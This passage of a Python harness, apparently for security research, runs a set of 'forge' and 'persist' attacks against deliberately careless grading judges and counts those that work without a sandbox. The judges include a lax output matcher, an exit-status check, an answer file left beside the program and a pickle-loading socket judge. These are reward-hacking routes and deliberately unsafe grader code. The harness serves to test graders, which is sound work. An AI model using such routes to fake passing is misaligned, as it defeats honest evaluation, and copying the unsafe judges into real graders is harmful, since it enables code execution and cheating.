      result = sys.stdout.getvalue().strip()
  passed = bool(same(result, task['expected']) or same(result, expected))
  channel.sendall(json.dumps({'passed': passed}).encode() + b'\\n')
  channel.sendall(pickle.dumps(result))


if os.fork():
  os.wait()
else:
  grade()
"""
_YES = (True, 'AC', 'right')


def _protect_machine() -> None:
  """Sets limits, and one core, for a program that nothing else holds."""
  os.sched_setaffinity(0, [min(os.sched_getaffinity(0))])
  # The fourth field is 'running/existing', in threads.
  load = pathlib.Path('/proc/loadavg').read_text().split()
  threads = int(load[3].partition('/')[2])
  for kind, limit in (
    (resource.RLIMIT_AS, 2 << 30),
    (resource.RLIMIT_CPU, 10),
    (resource.RLIMIT_FSIZE, 512 << 20),
    (resource.RLIMIT_NPROC, threads + 64),
  ):
    resource.setrlimit(kind, (limit, limit))


def _by_output(attack: Attack, context: Context, folder: str) -> bool:
  """Runs the program as any other; whether its output is what is expected."""
  program = pathlib.Path(folder, 'program.py')
  program.write_text(context.fill(attack.program))
  with open(pathlib.Path(folder, 'input'), 'w+b') as stdin:
    for _ in range(attack.runs):
      output, _ = _run([str(program)], folder, stdin)
  return output.decode(errors='replace').strip() == context.expected(attack)


def _by_lax_output(attack: Attack, context: Context, folder: str) -> bool:
  """Whether the output agrees with the answer as far as a lax judge looks."""
  program = pathlib.Path(folder, 'program.py')
  program.write_text(context.fill(attack.program))
  data, _ = _run([str(program)], folder, subprocess.DEVNULL)
  output = data.decode(errors='replace').strip()
  answer = context.expected(attack)
  lines = output.splitlines()[:100]
  # All lines up to the shorter end: no output passes.
  alike = all(a == b for a, b in zip(lines, answer.splitlines()))
  patterns = any(fnmatch.fnmatch(answer, line) for line in lines)
  return alike or patterns or answer.startswith(output)


def _by_status(attack: Attack, context: Context, folder: str) -> bool:
  """Runs the program and a test in one; whether its exit status is 0."""
  called = attack.kind == 'call'
  test = f'solve() == {context.expected(attack)!r}' if called else 'False'
  program = pathlib.Path(folder, 'program.py')
  program.write_text(f'{context.fill(attack.program)}\nassert {test}\n')
  return _run([str(program)], folder, subprocess.DEVNULL)[1] == 0


def _run(arguments: list[str], folder: str, stdin) -> tuple[bytes, int]:
  """Runs Python; returns its output, and its status, 1 where it is late."""
  with subprocess.Popen(
    [sys.executable, *arguments],
    cwd=folder,
    stdin=stdin,
    stdout=subprocess.PIPE,
    stderr=subprocess.PIPE,
    close_fds=False,
    preexec_fn=_protect_machine,
  ) as process:
    try:
      output = process.communicate(timeout=_TIMEOUT_SECONDS)[0]
      return output, process.returncode
    except subprocess.TimeoutExpired:
      _end_descendants()
      return process.communicate()[0], 1


def _among_its_data(attack: Attack, context: Context, folder: str) -> bool:
  """Runs the program inside the careless judge; whether it says 'right'."""
  ours, theirs = socket.socketpair()
  theirs.set_inheritable(True)
  task = {
    'program': context.fill(attack.program),
    'expected': context.expected(attack),
    'runs': attack.runs,
  }
  with tempfile.TemporaryFile() as stdin, ours:
    stdin.write(json.dumps(task).encode())
    stdin.seek(0)
    replies = _Replies(ours)
    # The answer is there for logs, as careless judges do.
    number = str(theirs.fileno())
    _run(['-c', _CARELESS, number, task['expected']], folder, stdin)
    theirs.close()
    _end_descendants()
    return _believed(replies.data())


class _Replies(threading.Thread):
  """Collects what comes over a socket, so that nobody waits for a reader."""

  def __init__(self, stream: socket.socket):
    super().__init__(daemon=True)
    self._stream, self._data = stream, b''
    self.start()

  def run(self) -> None:
    while piece := self._stream.recv(1 << 20):
      self._data += piece

  def data(self) -> bytes:
    """Waits for the end of the stream."""
    self.join()
    return self._data


def _believed(data: bytes) -> bool:
  """Whether a reply says 'right', or else the result that comes after it.

  Raises what a reply that is no JSON, or no pickle, raises in the trainer.
  """
  line, _, result = data.partition(b'\n')
  if not line:
    return False
  return _says_yes(json.loads(line)) or _says_yes(pickle.loads(result))


def _says_yes(reply: object) -> bool:
  return isinstance(reply, dict) and any(
    reply.get(name) in _YES for name in ('passed', 'status', 'verdict')
  )


def _end_descendants() -> None:
  """Ends what this process started and what that left; it is their reaper."""
  deadline = time.monotonic() + 5
  while (pids := _children()) and time.monotonic() < deadline:
    for pid in pids:
      os.kill(pid, signal.SIGKILL)
      os.waitpid(pid, 0)


def _children() -> list[int]:
  found = []
  for entry in os.listdir('/proc'):
    if entry.isdigit():
      try:
        stat = pathlib.Path('/proc', entry, 'stat').read_text()
      except OSError:
        continue
      if int(stat.rpartition(')')[2].split()[1]) == os.getpid():
        found.append(int(entry))
  return found


def _judges(attack: Attack) -> list[Callable[[Attack, Context, str], bool]]:
  """The careless judges that can run `attack`."""
  judges = []
  if attack.kind == 'stdin':
    judges.append(_by_output)
  if attack.kind == 'call' or attack.category in ('forge', 'persist'):
    judges.append(_among_its_data)
  if attack.category == 'forge':
    judges.append(_by_status)
  if attack.category == 'forge' and attack.kind == 'stdin':
    judges.append(_by_lax_output)
  return judges


def _attempt(attack: Attack) -> list[str]:
  """Runs `attack` on this process under each judge; says what worked."""
  worked = []
  for judge in _judges(attack):
    with tempfile.TemporaryDirectory() as folder, Context() as context:
      name = judge.__name__.strip('_').replace('_', ' ')
      # Some judges keep it where they run.
      answer = pathlib.Path(folder, 'answer.txt')
      answer.write_text(context.expected(attack))
      try:
        if judge(attack, context, folder):
          worked.append(f'right {name}')
      except Exception as e:  # noqa: BLE001
        worked.append(f'{type(e).__name__} in the judge {name}')
      if effect := look(context):
        worked.append(effect)
      _end_descendants()
  return worked


def _trainer(name: str) -> None:
  """What a trainer's process does: one attack; prints a JSON list."""
  _LIBC.prctl(_PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
  with tempfile.TemporaryDirectory() as folder:
    os.chdir(folder)
    attack = next(a for a in ATTACKS if a.name == name)
    print(json.dumps(_attempt(attack)))
    os.chdir('/')


def _trainer_command(name: str) -> list[str]:
  return [sys.executable, __file__, '--trainer', name]


def _observe(attack: Attack) -> list[str]:
  """What worked on a trainer of its own, a process in a session of its own."""
  done = subprocess.run(
    _trainer_command(attack.name),
    capture_output=True,
    stdin=subprocess.DEVNULL,
    start_new_session=True,
    timeout=120,
    check=False,
  )
  _end_descendants()
  try:
    return json.loads(done.stdout)
  except ValueError:
    last = done.stderr.decode(errors='replace').strip().splitlines()[-1:]
    return [f'trainer ended with {done.returncode} {" ".join(last)}']


def main(names: list[str]) -> None:
  """Runs the attacks whose names contain one of `names`, or all of them."""
  _LIBC.prctl(_PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
  count = 0
  some = [
    a for a in ATTACKS if not names or any(name in a.name for name in names)
  ]
  for attack in some:
    worked = _observe(attack)
    count += bool(worked)
    effects = '; '.join(worked) or '- nothing here'
    print(f'{attack.category:8}{attack.name}: {effects}', flush=True)
  print(f'{count} of {len(some)} attacks work without a sandbox')


if __name__ == '__main__':
  if sys.argv[1:2] == ['--trainer']:
    _trainer(sys.argv[2])
  else:
    main(sys.argv[1:])
